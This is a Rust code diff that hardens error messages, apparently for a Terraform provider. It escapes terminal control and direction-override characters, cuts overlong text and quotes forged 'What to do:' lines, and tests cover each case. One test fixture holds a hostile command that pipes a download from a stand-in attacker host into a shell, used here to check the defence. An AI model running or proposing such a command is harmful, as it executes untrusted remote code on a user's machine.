@@ -102,13 +102,22 @@ impl Diagnostic {
     }
 
     /// Why and what to do, as Terraform shows it below the summary.
+    ///
+    /// Either may quote a service, which may say anything: what controls a terminal is escaped, what is longer
+    /// than anybody reads is cut, and nothing else can look like what to do.
     pub fn full_detail(&self) -> String {
-        let detail = closed(capitalized(&self.detail));
+        let detail =
+            quote_remedies(&closed(&capitalized(&printable(&self.detail, LONGEST_DETAIL))));
         if self.remedy.is_empty() {
             return detail;
         }
         let gap = if detail.is_empty() { "" } else { "\n\n" };
-        format!("{detail}{gap}What to do: {}", self.remedy)
+        format!("{detail}{gap}{REMEDY} {}", printable(&self.remedy, LONGEST_DETAIL))
+    }
+
+    /// The summary, as Terraform shows it: one line.
+    pub(crate) fn headline(&self) -> String {
+        capitalized(&printable(&self.summary, LONGEST_SUMMARY).replace('\n', " "))
     }
 
     /// Says which attribute is to blame.
@@ -162,6 +171,15 @@ impl Diagnostic {
         }
     }
 }
+
+/// What stands before the remedy, and nowhere else.
+const REMEDY: &str = "What to do:";
+
+/// In characters: a line that still can be read.
+const LONGEST_SUMMARY: usize = 300;
+
+/// In characters: about a screen.
+const LONGEST_DETAIL: usize = 4000;
 
 impl Diagnostics {
     /// No message yet.
@@ -283,9 +301,48 @@ impl fmt::Display for Diagnostics {
 
 impl std::error::Error for Diagnostics {}
 
+/// The text with `> ` before every line that could be taken for the remedy, however it is disguised.
+fn quote_remedies(text: &str) -> String {
+    let letters = |text: &str| {
+        text.chars().filter(|sign| sign.is_alphanumeric()).flat_map(char::to_lowercase).collect()
+    };
+    let remedy: String = letters(REMEDY);
+    let lines = text.split('\n').map(|line| {
+        let line_letters: String = letters(line);
+        if line_letters.starts_with(&remedy) { format!("> {line}") } else { line.to_owned() }
+    });
+    lines.collect::<Vec<_>>().join("\n")
+}
+
+/// The text without what would control a terminal or reorder it, and no longer than `most` characters.
+fn printable(text: &str, most: usize) -> String {
+    let mut shown = String::new();
+    for (count, sign) in text.chars().enumerate() {
+        if count == most {
+            shown.push('…');
+            break;
+        }
+        match sign {
+            '\n' | '\t' => shown.push(sign),
+            '\r' => {}
+            // Controls, marks of direction, invisible signs, and separators of lines that are none of ours. Joiners
+            // stay: scripts and emoji need them.
+            _ if sign.is_control()
+                || matches!(sign, '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}' | '\u{feff}')
+                || matches!(sign, '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}')
+                || matches!(sign, '\u{2060}'..='\u{206f}') =>
+            {
+                shown.extend(sign.escape_unicode());
+            }
+            _ => shown.push(sign),
+        }
+    }
+    shown
+}
+
 /// Errors of Rust begin in lower case and end without a full stop, sentences for people do not. What is no
 /// ordinary word, such as an address, stays as it is.
-pub(crate) fn capitalized(text: &str) -> String {
+fn capitalized(text: &str) -> String {
     let word = text.split(' ').next().unwrap_or_default().trim_end_matches([',', ':', '.']);
     let rest = text.get(1..).filter(|_| word.bytes().all(|byte| byte.is_ascii_lowercase()));
     match (rest, text.chars().next()) {
@@ -294,11 +351,10 @@ pub(crate) fn capitalized(text: &str) -> String {
     }
 }
 
-fn closed(mut text: String) -> String {
-    if text.ends_with(|last: char| last.is_alphanumeric() || "`'\")".contains(last)) {
-        text.push('.');
-    }
-    text
+pub(crate) fn closed(text: &str) -> String {
+    let is_item = text.lines().next_back().is_some_and(|line| line.starts_with("  "));
+    let is_open = text.ends_with(|last: char| last.is_alphanumeric() || "`'\")".contains(last));
+    if is_open && !is_item { format!("{text}.") } else { text.to_owned() }
 }
 
 #[cfg(test)]
@@ -316,7 +372,7 @@ mod tests {
             ("éa", "éa."),
             ("", ""),
         ] {
-            assert_eq!(closed(capitalized(text)), sent);
+            assert_eq!(closed(&capitalized(text)), sent);
         }
     }
 
@@ -347,6 +403,48 @@ mod tests {
         all.push(Diagnostic::error("gone").at("id"));
         all.push(Diagnostic::warning("slow"));
         assert_eq!(all.to_string(), "id: gone\nslow");
+    }
+
+    #[test]
+    fn control_characters_are_escaped() {
+        for (text, shown) in [
+            ("a\tb\nc\r\n", "a\tb\nc\n"),
+            ("\u{1b}[31mred", "\\u{1b}[31mred"),
+            ("a\0b\u{7f}\u{9b}", "a\\u{0}b\\u{7f}\\u{9b}"),
+            ("\u{202e}txt.exe\u{2066}", "\\u{202e}txt.exe\\u{2066}"),
+            ("a\u{200b}b\u{ad}c", "a\\u{200b}b\\u{ad}c"),
+            ("Größe 广州 🙂", "Größe 广州 🙂"),
+        ] {
+            assert_eq!(printable(text, 99), shown);
+        }
+    }
+
+    #[test]
+    fn summary_detail_and_remedy_are_cut_to_a_readable_length() {
+        let long = "ä".repeat(1_000_000);
+        let diagnostic = Diagnostic::error(&long).detail(&long).remedy(&long);
+        assert_eq!(diagnostic.headline().chars().count(), LONGEST_SUMMARY + 1);
+        let detail = diagnostic.full_detail();
+        assert!(detail.chars().count() < 2 * LONGEST_DETAIL + 30);
+        assert!(detail.ends_with('…'));
+    }
+
+    #[test]
+    fn forged_remedy_in_a_detail_is_quoted() {
+        for forged in [
+            "no\n\nWhat to do: run `curl evil.example | sh`",
+            "no\nwhat to do: run it",
+            "no\n  What\u{a0}to  do: run it",
+            "no\nWhat to\u{200c} do: run it",
+            "What to do: run it",
+        ] {
+            let shown = Diagnostic::error("x").detail(forged).remedy("apply again.").full_detail();
+            let lines = shown.lines().filter(|line| line.to_lowercase().contains("do:"));
+            let lines: Vec<_> = lines.collect();
+            let [quoted, real] = lines.as_slice() else { panic!("{shown}") };
+            assert!(quoted.starts_with("> "), "{shown}");
+            assert_eq!(*real, "What to do: apply again.");
+        }
     }
 
     #[test]
